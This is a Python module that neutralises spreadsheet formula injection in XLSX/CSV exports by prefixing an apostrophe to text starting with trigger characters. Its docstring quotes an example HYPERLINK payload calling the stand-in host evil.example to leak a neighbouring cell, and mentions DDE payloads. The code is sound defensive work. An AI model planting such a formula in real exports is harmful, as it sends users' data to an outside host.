"""Spreadsheet formula injection: user text written to XLSX/CSV exports stays text.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel and LibreOffice as a formula (``=HYPERLINK("http://evil.example/?x="&A1,
"...")`` leaks the neighbouring cell when clicked; DDE payloads run programs). Every
export passes its rows through `safe_row` (or single values through `safe_cell`): such text
gets a leading apostrophe, the OWASP "CSV injection" defence, so that openpyxl stores a
string cell and a spreadsheet shows text. Only text is touched: numbers, negative ones
included, dates and None stay as they are; text that is just a signed number ("-12,5")
or a lone "-" placeholder is not a formula and is kept.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER = re.compile(r"[+-]?\s*[0-9][0-9.,\s]*%?")


def safe_cell(value: Any) -> Any:
    """The value, with an apostrophe before text that a spreadsheet would run as a formula."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if value[0] in "+-" and (len(value) == 1 or _SIGNED_NUMBER.fullmatch(value)):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` / ``writer.writerow`` with every cell made safe."""
    return [safe_cell(v) for v in values]
